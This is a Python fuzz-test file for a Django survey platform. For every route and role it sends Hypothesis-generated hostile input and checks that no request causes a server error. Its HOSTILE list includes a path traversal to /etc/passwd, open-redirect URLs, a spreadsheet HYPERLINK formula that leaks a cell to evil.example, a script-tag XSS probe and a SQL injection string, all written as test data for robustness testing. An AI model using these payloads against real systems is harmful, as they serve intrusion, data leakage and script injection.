"""A generated sweep of hostile input over the whole platform: never a server error.

For every URL pattern (walked as tests/access does, with the sample objects of a district) and
every role the access policy lets in, the sweep opens the page, reads what it offers to send
(its forms, the query parameters of its links, and the parameters the views read by name) and
lets Hypothesis send generated values: the page's own choices, NUL and other control
characters, numbers too large for the database, malformed dates, formulas, markup, very long
text, forged form-set counts. Any status of 500 or more, or an exception, fails the sweep with
the request that caused it.

Every run sends fixed examples to each target: a NUL or a number too large for the database in
every query parameter; the page's own values, and hostile values with fields left out, to every
form.
`make test-fuzz` adds SWEEP_EXAMPLES generated examples per target and Django's admin.

Each request runs in a savepoint that is rolled back, so one example's deletion or logout does
not change what the next one meets.
"""

import os
import shutil
import tempfile
from http.cookies import SimpleCookie

import pytest
from django.db import transaction
from django.test import Client, TestCase, override_settings
from django.urls import reverse
from hypothesis import HealthCheck, Phase, example, given, settings
from hypothesis import strategies as st

from ikokmu.access import rule_for
from ikokmu.roles import Role
from surveys import services as survey_services
from surveys.models import SurveyRound
from surveys.views import LANGUAGE_PARAMETER
from tests.access.test_access_policy import ALL_ROUTES, ROLES, expected_allowed, sample_path
from tests.factories import (
    DistrictFactory,
    sample_objects_in,
    user_with_role,
    worker_heartbeat_ran,
)
from tests.fuzz.pages import Form, parameters_read_in_code, read_page

EXAMPLES = int(os.environ.get("SWEEP_EXAMPLES", "0"))
# Django's admin is Django's own and sweeping its 140 pages costs more than a minute: CI leaves
# it to `make test-fuzz` (SWEEP_ADMIN=1).
SWEEP_ADMIN = os.environ.get("SWEEP_ADMIN", "0") == "1"
MEDIA = tempfile.mkdtemp(prefix="ikokmu-sweep-media-")

HOSTILE = [
    "",
    " ",
    "\x00",
    "a\x00b",
    "%00",
    "\x07\x1b",
    "0",
    "-1",
    "1.5",
    "1,5",
    "²",
    "1e309",
    "NaN",
    "99999999999999999999",
    "-99999999999999999999",
    "2026-02-30",
    "31.12.10000",
    "0000-00-00T25:61",
    "true",
    "on",
    "../../etc/passwd",
    "https://evil.example/",
    "//evil.example/",
    '=HYPERLINK("https://evil.example/?"&A1)',
    "<script>alert(1)</script>",
    "' OR 1=1 --",
    "{}",
    '{"a": [[[[]]]]}',
    "Ä" * 5000,
    "x" * 100_000,
]

TEXT = st.text(
    alphabet=st.characters(blacklist_categories=("Cs",)), max_size=300
)  # no lone surrogates: no client can send them as UTF-8
VALUE = st.one_of(st.sampled_from(HOSTILE), TEXT, st.integers().map(str))

SKIPPED_POSTS = {
    # Django's own views whose POST would end the signed-in session of the sweep.
    "/konto/abmelden/",
}


def _value_for(field) -> st.SearchStrategy:
    offered = [choice for choice in field.choices if choice is not None]
    if offered:
        return st.one_of(st.sampled_from(offered), VALUE)
    return VALUE


def _sendable(form: Form) -> tuple[dict, list[str], list]:
    fields = {
        name: f
        for name, f in form.fields.items()
        if f.kind not in ("file", "submit", "button") and name != "csrfmiddlewaretoken"
    }
    files = [name for name, f in form.fields.items() if f.kind == "file"]
    submits = [f for f in form.fields.values() if f.kind in ("submit", "button")]
    return fields, files, submits


def _upload(name: str, content: bytes):
    from django.core.files.uploadedfile import SimpleUploadedFile

    return SimpleUploadedFile(name, content)


def form_data(form: Form) -> st.SearchStrategy:
    """Generated values for a form: each field left out, sent once or (for lists) twice."""
    fields, files, submits = _sendable(form)

    @st.composite
    def build(draw):
        data = {}
        for name, f in fields.items():
            choice = draw(st.integers(0, 5))
            if choice == 0:
                continue  # left out
            if choice == 5:
                data[name] = [draw(_value_for(f)), draw(_value_for(f))]
            else:
                data[name] = draw(_value_for(f))
        for name in files:
            if draw(st.booleans()):
                data[name] = _upload(
                    draw(st.sampled_from(["a.csv", "a.xlsx", "a.docx", "a.odt", "a.qdc", "a"])),
                    draw(st.sampled_from([b"", b"PK\x03\x04garbage", b"%PDF-1.4", b"x,y\n1"])),
                )
        if submits and draw(st.booleans()):
            submit = draw(st.sampled_from(submits))
            data[submit.name] = submit.choices[0] if submit.choices else ""
        return data

    return build()


def form_examples(form: Form) -> list[dict]:
    """The examples every run sends to a form: the values the page offers (a submission that
    gets past validation to the code behind it), and a hostile value in two of three fields,
    each a different kind, the third left out (a view that reads request.POST["x"] fails on
    that)."""
    fields, files, submits = _sendable(form)
    offered = {name: (f.choices[0] if f.choices else "1") for name, f in fields.items()}
    hostile = {name: CORE[n % len(CORE)] for n, name in enumerate(fields) if n % 3 != 2}
    for data in (offered, hostile):
        for name in files:
            data[name] = _upload("a.xlsx", b"PK\x03\x04garbage")
        if submits:
            data[submits[-1].name] = submits[-1].choices[0] if submits[-1].choices else ""
    return [offered, hostile]


# The kinds of value that ended in server errors before (issue 14 and earlier issues).
CORE = ["a\x00b", "99999999999999999999", "²", "-1", "2026-02-30", "=1+1", "x" * 5000]


def query_data(names: list[str]) -> st.SearchStrategy:
    return st.dictionaries(st.sampled_from(names), VALUE, max_size=4) if names else st.just({})


def query_examples(names: list[str]) -> list[dict]:
    """Every parameter either with a NUL or with a number too large for the database."""
    return [{name: CORE[n % 2] for n, name in enumerate(names)}]


SWEEP = settings(
    max_examples=max(EXAMPLES, 1),
    deadline=None,
    database=None,
    # CI sends the fixed examples only; `make test-fuzz` generates EXAMPLES more per target.
    phases=[Phase.explicit, Phase.generate, Phase.shrink] if EXAMPLES else [Phase.explicit],
    suppress_health_check=list(HealthCheck),
)


@pytest.mark.django_db
@override_settings(
    STORAGES={
        "default": {
            "BACKEND": "django.core.files.storage.FileSystemStorage",
            "OPTIONS": {"location": MEDIA},
        },
        "staticfiles": {"BACKEND": "django.contrib.staticfiles.storage.StaticFilesStorage"},
    }
)
class HostileInputSweep(TestCase):
    @classmethod
    def setUpTestData(cls):
        cls.district_a = DistrictFactory(name="Landkreis Sweephausen", official_key="09911")
        cls.district_b = DistrictFactory(name="Landkreis Nachbarsdorf", official_key="09912")
        cls.samples = sample_objects_in(cls.district_a)
        # A healthy platform: /gesundheit/ rightly answers 503 without a recent worker heartbeat.
        worker_heartbeat_ran()
        cls.users = {
            "staff_a": user_with_role(
                Role.DISTRICT_STAFF, districts=[cls.district_a], username="staff-a"
            ),
            "interview": user_with_role(Role.INTERVIEW_TEAM, username="interview"),
            "project": user_with_role(Role.PROJECT_TEAM, username="project"),
        }
        cls.users["project"].is_superuser = True  # the admin's pages, too
        cls.users["project"].save()
        # A respondent's own link: the access walk has only made-up tokens, which end at 404.
        survey_round = SurveyRound.objects.get(pk=cls.samples["round_pk"])
        _invitation, cls.token = survey_services.invitation_create(
            survey_round=survey_round, email="sweep@example.org"
        )
        cls.pages = survey_round.version.sections.count()

    @classmethod
    def tearDownClass(cls):
        super().tearDownClass()
        shutil.rmtree(MEDIA, ignore_errors=True)

    def client_for(self, role: str) -> Client:
        client = Client(raise_request_exception=False)
        if role != "anonymous":
            client.force_login(self.users[role])
        return client

    def send(self, client: Client, method: str, path: str, data) -> None:
        cookies = SimpleCookie(client.cookies.output(header="", sep="\n"))
        try:
            with transaction.atomic():
                send = client.post if method == "post" else client.get
                response = send(path, data)
                transaction.set_rollback(True)
        finally:
            client.cookies = cookies
        self.assertLess(
            response.status_code,
            500,
            f"{method.upper()} {path} {data!r} → {response.status_code}",
        )

    def sweep(self, strategy, examples, client: Client, method: str, path: str) -> None:
        def run(data):
            self.send(client, method, path, data)

        for data in examples:
            run = example(data=data)(run)
        SWEEP(given(data=strategy)(run))()

    def sweep_page(self, client: Client, role: str, path: str, named: set[str]) -> int:
        """Sweep one page's query parameters and forms; returns the number of sweeps."""
        with transaction.atomic():
            page = client.get(path)
            transaction.set_rollback(True)
        self.assertLess(page.status_code, 500, f"GET {path} as {role}")
        is_html = "html" in page.get("Content-Type", "")
        forms, link_params = read_page(
            path, page.content.decode(errors="replace") if is_html else ""
        )
        get_fields = {name for form in forms if form.method == "get" for name in form.fields}
        names = sorted(link_params | named | get_fields)
        self.sweep(query_data(names), query_examples(names), client, "get", path)
        sweeps = 1
        for form in forms:
            if (
                form.method == "post"
                and form.action.startswith("/")
                and form.action not in SKIPPED_POSTS
            ):
                self.sweep(form_data(form), form_examples(form), client, "post", form.action)
                sweeps += 1
        return sweeps

    def test_nothing_a_respondent_sends_ends_in_a_server_error(self):
        client = self.client_for("anonymous")
        entry = reverse("surveys:respond", args=[self.token])
        self.sweep_page(client, "respondent", entry, {LANGUAGE_PARAMETER})
        client.post(entry, {"consent": "on"})  # kept: the pages need a started response
        paths = [reverse("surveys:page", args=[self.token, n]) for n in range(1, self.pages + 1)]
        paths += [
            reverse(name, args=[self.token]) for name in ("surveys:review", "surveys:answers_pdf")
        ]
        answered = 0
        for path in paths:
            page = client.get(path)
            answered += page.status_code == 200 and b'name="action"' in page.content
            self.sweep_page(client, "respondent", path, {LANGUAGE_PARAMETER})
        self.assertGreaterEqual(answered, 1, "the sweep reached the questionnaire")

    def test_no_request_of_any_role_ends_in_a_server_error(self):
        named = parameters_read_in_code() | {LANGUAGE_PARAMETER, "next"}
        sweeps = 0
        for role in ROLES:
            if role == "staff_b":
                continue  # the access test checks that district B's staff get nothing of A's
            client = self.client_for(role)
            for route in ALL_ROUTES:
                if route.view_name.startswith("admin:") and not SWEEP_ADMIN:
                    continue
                if expected_allowed(rule_for(route.view_name, route.namespaces), role):
                    path = sample_path(route, self.samples)
                    sweeps += self.sweep_page(client, role, path, named)
        self.assertGreater(sweeps, 300)
